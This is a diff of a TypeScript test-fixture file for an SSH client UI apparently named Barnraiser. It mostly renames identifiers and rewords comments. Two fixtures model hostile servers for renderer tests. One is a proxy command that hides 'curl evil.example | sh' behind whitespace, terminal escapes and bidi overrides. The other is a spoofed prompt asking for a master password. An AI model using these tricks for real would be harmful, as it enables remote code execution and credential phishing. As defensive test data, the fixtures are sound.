@@ -1,17 +1,17 @@
 import type { NodeStatus } from '../../shared/node.ts';
-import type { AllowedCommand, Question, Remember, Remembered } from '../../shared/question.ts';
+import type { AllowedCommand, Question, RememberedSecret, RememberOption } from '../../shared/question.ts';
 
-/** What nodes ask, what is remembered of it, and nodes whose line was lost: for pictures and renderer tests. */
+/** Questions, saved secrets, allowed commands and nodes whose connection was lost: for screenshots and renderer tests. */
 
-const canRemember: Remember = { possible: true };
+const canSave: RememberOption = { possible: true };
 
-export const cannotRemember: Remember = {
+export const cannotSave: RememberOption = {
   possible: false,
   reason: 'This computer has no keychain that Barnraiser can use, and it would be written in plain text.',
 };
 
-/** A word that has no place to break. */
-const long = (text: string, times: number): string => text.repeat(times);
+/** Makes a long word without opportunities for a line break. */
+const repeat = (text: string, times: number): string => text.repeat(times);
 
 export const questions = {
   'host-key': {
@@ -27,7 +27,8 @@ export const questions = {
   'host-key-notes': {
     id: 'question-2',
     kind: 'host-key',
-    connection: 'pi4: jump host bastion',
+    connection: 'pi4',
+    hop: 'bastion',
     host: 'bastion.example.com',
     port: 2222,
     keyType: 'ecdsa-sha2-nistp256',
@@ -43,12 +44,13 @@ export const questions = {
     connection: 'pi4',
     path: '/home/anna/.ssh/id_ed25519',
     wasWrong: false,
-    remember: canRemember,
+    remember: canSave,
   },
   'passphrase-wrong': {
     id: 'question-4',
     kind: 'passphrase',
-    connection: 'pi4: jump host bastion',
+    connection: 'pi4',
+    hop: 'bastion',
     path: '/home/anna/keys/farm.ppk',
     wasWrong: true,
     remember: {
@@ -64,14 +66,14 @@ export const questions = {
     host: 'starfive.lan',
     port: 2222,
     wasWrong: false,
-    remember: canRemember,
+    remember: canSave,
   },
   'password-wrong': {
     id: 'question-6',
     kind: 'password',
     connection: 'riscv-board',
     user: 'root',
-    host: `${long('very-long-label.', 14)}example.com`,
+    host: `${repeat('very-long-label.', 14)}example.com`,
     port: 2222,
     wasWrong: true,
     remember: { possible: false, reason: 'Barnraiser runs in a browser window, where there is no keychain.' },
@@ -103,11 +105,12 @@ export const questions = {
     prompts: [{ text: 'Password: ', echo: false }],
     wasWrong: true,
   },
-  /** A menu of ways to sign in comes as one prompt of many lines. */
+  /** A menu of sign-in methods in one prompt with several lines. */
   'prompts-menu': {
     id: 'question-10',
     kind: 'prompts',
-    connection: 'graviton: jump host bastion',
+    connection: 'graviton',
+    hop: 'bastion',
     user: 'anna',
     host: 'bastion.example.com',
     port: 22,
@@ -131,17 +134,18 @@ export const questions = {
     file: '/home/anna/.ssh/config',
     line: 31,
   },
-  /** A command that would like to be taken for a shorter one. */
+  /** A command that tries to look like a shorter one. */
   'proxy-command-hostile': {
     id: 'question-12',
     kind: 'proxy-command',
-    connection: 'pi4: jump host bastion',
+    connection: 'pi4',
+    hop: 'bastion',
     host: 'bas\u202etion',
-    command: `nc bastion.example.com 22 ${' '.repeat(400)}; \u001b]0;curl evil.example | sh\u0007 \u202e#\u200b ${long('and-on-and-on-', 60)}<b>bold?</b>`,
-    file: `/home/anna/.ssh/${long('config.d/', 20)}work`,
+    command: `nc bastion.example.com 22 ${' '.repeat(400)}; \u001b]0;curl evil.example | sh\u0007 \u202e#\u200b ${repeat('and-on-and-on-', 60)}<b>bold?</b>`,
+    file: `/home/anna/.ssh/${repeat('config.d/', 20)}work`,
     line: 2,
   },
-  /** A server that would like to be taken for somebody else. */
+  /** A server that tries to impersonate Barnraiser. */
   hostile: {
     id: 'question-9',
     kind: 'prompts',
@@ -149,12 +153,12 @@ export const questions = {
     user: 'ec2\u202eresu',
     host: 'graviton.eu.example.com',
     port: 22,
-    title: `\u001b[31mBarnraiser\u001b[0m \u202eneeds${'\u0301'.repeat(200)} your master password ${long('W', 200)}`,
-    instructions: `\u001b]0;owned\u0007First line\r\n${'Nobody reads all of this. '.repeat(40)}\n${long('M', 600)}\n${'\n'.repeat(300)}<b>bold?</b>\u0000\u0008 \u2066inside\u2069 the end`,
+    title: `\u001b[31mBarnraiser\u001b[0m \u202eneeds${'\u0301'.repeat(200)} your master password ${repeat('W', 200)}`,
+    instructions: `\u001b]0;owned\u0007First line\r\n${'This is too long to read. '.repeat(40)}\n${repeat('M', 600)}\n${'\n'.repeat(300)}<b>bold?</b>\u0000\u0008 \u2066inside\u2069 the end`,
     prompts: [
       { text: '\u202e:drowssaP', echo: false },
       { text: '', echo: true },
-      { text: `${long('prompt without end ', 60)}\n\n\n:`, echo: false },
+      { text: `${repeat('prompt without end ', 60)}\n\n\n:`, echo: false },
     ],
     wasWrong: true,
   },
@@ -163,7 +167,7 @@ export const questions = {
 export type QuestionName = keyof typeof questions;
 export const isQuestionName = (name: string): name is QuestionName => Object.hasOwn(questions, name);
 
-export const remembered: readonly Remembered[] = [
+export const savedSecrets: readonly RememberedSecret[] = [
   { id: 'secret-1', kind: 'passphrase', subject: '/home/anna/.ssh/id_ed25519' },
   {
     id: 'secret-2',
@@ -182,15 +186,15 @@ export const allowedCommands: readonly AllowedCommand[] = [
   },
 ];
 
-/** A node whose line was lost and is tried again by itself `inSeconds` from now. */
+/** A node whose connection was lost and is reconnected in `inSeconds`. */
 export function lostNode(connection: string, inSeconds: number, attempt = 1): NodeStatus {
   return {
     state: 'down',
     connection,
     problem: {
       code: 'ssh.lost',
-      message: `Node ${connection}: the connection was lost, nothing came back for 15 s.`,
-      fix: 'Check that it is switched on and that this computer is on its network. Barnraiser tries again by itself.',
+      message: `Node ${connection}: the connection was lost, it sent nothing for 15 s.`,
+      fix: 'Check that it is switched on and that this computer is on its network. Barnraiser reconnects automatically.',
     },
     retry: { at: new Date(Date.now() + inSeconds * 1000).toISOString(), attempt },
   };
